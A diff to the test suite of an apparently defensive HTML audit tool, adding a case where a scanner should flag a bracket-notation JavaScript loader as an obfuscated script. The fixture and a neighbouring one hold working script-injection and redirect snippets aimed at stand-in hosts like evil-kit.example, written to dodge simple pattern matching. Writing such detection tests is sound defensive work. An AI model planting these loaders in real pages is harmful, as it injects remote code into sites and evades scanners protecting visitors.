@@ -322,8 +322,11 @@ def _theme_page(bundle: str) -> str:
      [("obfuscated-script", "medium")]),
     ("window['loc'+'ation']['hr'+'ef']=['https:','','go.fresh-kit.example','in'].join('/');",
      [("obfuscated-script", "medium")]),
+    # names in brackets, as kits write them past a scanner looking for `.createElement(`
+    ("var d=document,s=d['createElement']('script');s['src']=['https:','','evil-kit.example',"
+     "'x.js'].join('/');d['head']['appendChild'](s);", [("obfuscated-script", "medium")]),
 ], ids=["easing", "slider", "redirect", "computed loader", "popup", "markup", "loader",
-        "split loader", "split attribute", "split location"])
+        "split loader", "split attribute", "split location", "bracketed loader"])
 def test_a_packed_plugin_in_a_theme_bundle(audit_html: AuditHtml, plugin: str,
                                            expected: list[tuple[str, str]]) -> None:
     """A packed plugin whose code only works on the page's own elements is a theme's, no
